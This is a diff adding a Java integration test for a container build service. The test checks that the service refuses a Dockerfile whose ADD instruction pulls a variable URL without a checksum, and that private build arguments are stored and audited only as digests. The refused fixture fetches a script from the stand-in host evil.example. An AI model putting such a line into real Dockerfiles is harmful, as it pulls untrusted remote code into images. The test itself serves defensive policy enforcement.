@@ -109,6 +109,63 @@ class PolicyIT extends IntegrationTest {
         }
     }
 
+    /**
+     * Issue #11 over HTTP: an ADD whose source is a variable holding a URL is refused (422); build args that the
+     * policy does not declare public are shown, stored and audited only as digests, while the daemon gets the real
+     * value (the RUN fails unless it does), which is gone from the database once the build has ended.
+     */
+    @Test
+    void anAddOfAVariableUrlIsRefusedAndBuildArgsShowAsDigests() throws Exception {
+        String token = builder("payments");
+        String value = "kept-back-" + java.util.UUID.randomUUID();
+        String digest = "sha256:" + java.util.HexFormat.of().formatHex(java.security.MessageDigest
+                .getInstance("SHA-256").digest(value.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
+        String base = "FROM " + registryAddress() + "/base/busybox\n";
+
+        Response refused = submit(token, "image=payments/add-var&tag=1&buildArg=MODE=" + value
+                + "&buildArg=VERSION=1.2.3", Tars.tar().file("Dockerfile", base
+                + "ARG U=https://evil.example/x.sh\nADD $U /x\nUSER 1000\n").bytes());
+        JsonNode problem = problem(refused, 422);
+        assertThat(problem.path("findings").findValuesAsString("rule")).contains("add-url-without-checksum");
+        String rejectedId = problem.path("buildId").asString();
+        JsonNode rejected = read(get(token, "/api/v1/builds/" + rejectedId));
+        assertThat(rejected.path("buildArgs").path("MODE").asString()).isEqualTo(digest);
+        assertThat(rejected.path("buildArgs").path("VERSION").asString()).isEqualTo("1.2.3"); // public
+        assertThat(refused.body()).doesNotContain(value);
+
+        Response accepted = submit(token, "image=payments/args-digest&tag=1&noCache=true&buildArg=MODE=" + value,
+                Tars.tar().file("Dockerfile", base + "ARG MODE\nRUN test \"$MODE\" = \"" + value
+                        + "\"\nUSER 1000\n").bytes());
+        assertThat(accepted.status()).as(accepted.body()).isEqualTo(202);
+        String id = read(accepted).path("id").asString();
+        assertThat(read(accepted).path("buildArgs").path("MODE").asString()).isEqualTo(digest);
+        JsonNode done = awaitFinal(token, id, Duration.ofMinutes(3));
+        assertThat(done.path("status").asString()).as(done.toString()).isEqualTo("SUCCEEDED");
+        assertThat(done.path("buildArgs").path("MODE").asString()).isEqualTo(digest);
+
+        for (String build : java.util.List.of(rejectedId, id)) {
+            java.util.Map<String, Object> row = jdbc.queryForMap("select build_args, build_arg_values from build"
+                    + " where id = ?::uuid", build);
+            assertThat((String) row.get("build_args")).doesNotContain(value).contains(digest);
+            assertThat(row.get("build_arg_values")).isNull();
+        }
+        String trail = String.join("\n", jdbc.queryForList("select details from audit_event where target in (?, ?)",
+                String.class, "build/" + rejectedId, "build/" + id));
+        assertThat(trail).contains(digest).doesNotContain(value);
+
+        // A digest cannot be built from: the rebuild is skipped with the reason, nothing is queued.
+        String security = token(java.util.Set.of("SECURITY"), java.util.Set.of());
+        String selector = "{\"selector\":{\"images\":[\"" + done.path("imageDigest").asString()
+                + "\"]},\"reason\":\"issue 11\"";
+        eventually("the image in the inventory", Duration.ofSeconds(30), () -> read(postJson(security,
+                "/api/v1/rebuilds", selector + ",\"dryRun\":true}")).path("targets").size() == 1);
+        Response rebuild = postJson(security, "/api/v1/rebuilds", selector + "}");
+        assertThat(rebuild.status()).as(rebuild.body()).isEqualTo(202);
+        assertThat(read(rebuild).path("builds")).isEmpty();
+        assertThat(rebuild.body()).contains("SKIPPED").contains("MODE").contains("cannot be rebuilt")
+                .doesNotContain(value);
+    }
+
     private JsonNode lint(String token, String dockerfile) {
         return read(send(request(token, "/api/v1/lint?image=reload/app").header("Content-Type", "text/plain")
                 .POST(HttpRequest.BodyPublishers.ofString(dockerfile))));
